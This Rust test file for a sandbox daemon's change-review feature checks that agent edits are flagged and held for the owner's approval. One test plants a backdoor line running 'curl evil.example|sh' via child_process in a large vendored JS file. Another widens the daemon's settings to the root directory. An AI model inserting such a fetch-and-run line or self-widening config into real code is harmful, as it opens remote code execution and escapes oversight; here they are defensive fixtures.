//! What the review flags, through the real daemon and the owner's command
//! line (outside review 21, findings 7, 5 and 4).
//!
//! - A sandbox with a workspace of its own keeps it in warden's state:
//!   every change there was flagged `owner-config` and a token's commit
//!   got 403 `holds_configuration`, since the owner's closure held the
//!   state whole. The sandboxes' own workspaces are theirs now; the rest
//!   of the state stays the owner's.
//! - A one-line edit in a file past the review's line bound was shown as
//!   "not diffed" with no flag, and a token's commit applied it: it is
//!   flagged `not-shown` now, and the commit needs `accept_flagged`.
//! - The owner's `warden diff` did not flag the daemon's settings file,
//!   though the daemon's own review did: a daemon records its `--config`
//!   in the state, and the command line reads it there.

use crate::common::daemon::*;
use crate::common::*;
use std::path::{Path, PathBuf};

struct Host {
    dir: TempDir,
    config: PathBuf,
    root: PathBuf,
}

impl Host {
    fn new(tag: &str) -> Host {
        let dir = TempDir::new(tag);
        let config = dir.path().join("config");
        std::fs::create_dir_all(config.join("warden/profiles")).unwrap();
        std::fs::create_dir_all(dir.path().join("home")).unwrap();
        let root = dir.path().join("wsroot");
        std::fs::create_dir_all(&root).unwrap();
        Host { dir, config, root }
    }

    fn daemon(&self, args: &[&str]) -> Daemon {
        let p = self.dir.path();
        Daemon::start_in(
            None,
            p,
            true,
            args,
            &[("XDG_CONFIG_HOME", &self.config), ("HOME", &p.join("home"))],
        )
    }

    fn token(&self) -> String {
        token(
            self.dir.path(),
            "agent",
            &["sandboxes:write", "sandboxes:read", "exec"],
        )
    }

    /// `warden ARGS` as the owner at the terminal, with the daemon's
    /// state and catalogue.
    fn owner(&self, args: &[&str]) -> std::process::Output {
        std::process::Command::new(warden_bin())
            .args(args)
            .env("WARDEN_STATE_DIR", self.dir.path().join("warden"))
            .env("XDG_CONFIG_HOME", &self.config)
            .env("HOME", self.dir.path().join("home"))
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap()
    }
}

fn create(d: &Daemon, t: &str, body: serde_json::Value) {
    let (s, b) = json_as(d, t, "POST", "/v1/sandboxes", &body.to_string());
    assert_eq!(s, 201, "{b}");
}

fn sh_then_stop(d: &Daemon, t: &str, id: &str, script: &str) {
    let body = serde_json::json!({ "shell": script }).to_string();
    let (s, r) = json_as(d, t, "POST", &format!("/v1/sandboxes/{id}/exec"), &body);
    assert_eq!(s, 200, "{r}");
    assert_eq!(r["exit_status"], 0, "{script}: {r}");
    let (s, b) = json_as(d, t, "POST", &format!("/v1/sandboxes/{id}/stop"), "{}");
    assert!(s < 300, "{s} {b}");
}

/// Each change's path and flag rules, from `changes` JSON.
fn flags(changes: &serde_json::Value) -> Vec<(String, Vec<String>)> {
    changes["changes"]
        .as_array()
        .or(changes.as_array())
        .cloned()
        .unwrap_or_default()
        .iter()
        .map(|c| {
            let rules = c["flags"]
                .as_array()
                .cloned()
                .unwrap_or_default()
                .iter()
                .map(|f| f["rule"].as_str().unwrap_or_default().to_string())
                .collect();
            (c["path"].as_str().unwrap_or_default().to_string(), rules)
        })
        .collect()
}

fn review(d: &Daemon, t: &str, id: &str) -> Vec<(String, Vec<String>)> {
    let (s, r) = json_as(
        d,
        t,
        "GET",
        &format!("/v1/sandboxes/{id}/changes?content=true"),
        "",
    );
    assert_eq!(s, 200, "{r}");
    flags(&r)
}

#[test]
fn a_tokens_sandbox_with_a_workspace_of_its_own_commits_without_an_owner_config_flag() {
    if !curl_available() {
        return skip("curl is not installed");
    }
    let host = Host::new("own-ws-commit");
    let d = host.daemon(&["--workspace-root", host.root.to_str().unwrap()]);
    let t = host.token();
    create(&d, &t, serde_json::json!({"name": "own1", "start": true}));
    sh_then_stop(&d, &t, "own1", "echo hello > /workspace/notes.txt");
    let shown = review(&d, &t, "own1");
    assert_eq!(
        shown,
        vec![("notes.txt".to_string(), Vec::<String>::new())],
        "the sandbox's own workspace is not the owner's configuration"
    );
    let (s, b) = json_as(&d, &t, "POST", "/v1/sandboxes/own1/commit", "{}");
    assert_eq!(s, 200, "{b}");
    let own = host.dir.path().join("warden/workspaces/own1/notes.txt");
    assert_eq!(std::fs::read_to_string(own).unwrap(), "hello\n");
}

#[test]
fn a_one_line_backdoor_past_the_line_bound_is_flagged_and_a_tokens_commit_needs_acceptance() {
    if !curl_available() {
        return skip("curl is not installed");
    }
    let host = Host::new("unshown-commit");
    let lib = host.root.join("lib");
    std::fs::create_dir_all(&lib).unwrap();
    let old: String = (0..60_000)
        .map(|i| format!("function f{i}(x){{ return x+{i}; }}\n"))
        .collect();
    std::fs::write(lib.join("vendor.js"), &old).unwrap();
    let d = host.daemon(&["--workspace-root", host.root.to_str().unwrap()]);
    let t = host.token();
    create(
        &d,
        &t,
        serde_json::json!({"name": "hl", "workspace": lib, "start": true}),
    );
    sh_then_stop(
        &d,
        &t,
        "hl",
        r#"sed -i '30000s/.*/function f29999(x){ require("child_process").exec("curl evil.example|sh"); return x+29999; }/' /workspace/vendor.js"#,
    );
    let shown = review(&d, &t, "hl");
    assert_eq!(shown.len(), 1, "{shown:?}");
    assert!(shown[0].1.contains(&"not-shown".to_string()), "{shown:?}");
    let (s, b) = json_as(&d, &t, "POST", "/v1/sandboxes/hl/commit", "{}");
    assert_eq!(s, 409, "{b}");
    assert_eq!(b["code"], "flagged", "{b}");
    assert!(b.to_string().contains("not-shown"), "{b}");
    assert_eq!(std::fs::read_to_string(lib.join("vendor.js")).unwrap(), old);
    // Accepting it is the owner's decision, not the token's.
    let (s, b) = json_as(
        &d,
        &t,
        "POST",
        "/v1/sandboxes/hl/commit",
        r#"{"accept_flagged":true}"#,
    );
    assert_eq!(s, 403, "{b}");
    assert_eq!(std::fs::read_to_string(lib.join("vendor.js")).unwrap(), old);
}

#[test]
fn the_owners_diff_at_the_terminal_flags_the_daemons_settings_file() {
    if !curl_available() {
        return skip("curl is not installed");
    }
    let host = Host::new("cli-settings-flag");
    let ops = host.root.join("ops");
    std::fs::create_dir_all(&ops).unwrap();
    let file = ops.join("warden-daemon.yaml");
    std::fs::write(
        &file,
        format!("workspace_roots: [{}]\n", host.root.display()),
    )
    .unwrap();
    let t = host.token();
    {
        // Not yet the daemon's settings: the token may work on the
        // project, and rewrites the file.
        let d = host.daemon(&["--workspace-root", host.root.to_str().unwrap()]);
        create(
            &d,
            &t,
            serde_json::json!({"name": "ops1", "workspace": ops, "start": true}),
        );
        sh_then_stop(
            &d,
            &t,
            "ops1",
            r#"printf 'workspace_roots: [/]\n' > /workspace/warden-daemon.yaml"#,
        );
        let out = host.owner(&["diff", "ops1", "--json"]);
        let before: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(
            flags(&before),
            vec![("warden-daemon.yaml".to_string(), Vec::<String>::new())],
            "not (yet) a file the owner's configuration is read from"
        );
    }
    // The owner starts the daemon with the project's file.
    let d = host.daemon(&["--config", file.to_str().unwrap()]);
    let shown = review(&d, &t, "ops1");
    assert!(
        shown[0].1.contains(&"owner-config".to_string()),
        "{shown:?}"
    );
    drop(d);
    // The owner's own review at the terminal says so too, daemon running
    // or not: the next start reads the file again.
    let out = host.owner(&["diff", "ops1", "--json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let after: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let rules = flags(&after);
    assert_eq!(rules.len(), 1, "{rules:?}");
    assert!(
        rules[0].1.contains(&"owner-config".to_string()),
        "{rules:?}"
    );
    let recorded = Path::new(host.dir.path()).join("warden/daemon-config");
    assert!(std::fs::read_to_string(recorded)
        .unwrap()
        .contains("warden-daemon.yaml"));
}
